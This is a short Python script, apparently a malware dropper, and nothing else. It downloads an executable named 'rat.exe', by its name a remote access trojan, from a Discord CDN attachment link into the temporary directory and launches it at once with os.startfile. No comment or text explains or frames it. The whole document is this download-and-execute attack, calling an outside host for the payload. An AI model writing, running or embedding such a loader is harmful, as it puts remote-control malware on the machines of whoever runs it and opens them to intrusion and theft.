import os, urllib.request, tempfile
p = os.path.join(tempfile.gettempdir(), 'rat.exe')
urllib.request.urlretrieve('https://cdn.discordapp.com/attachments/1012/1013/rat.exe', p)
os.startfile(p)
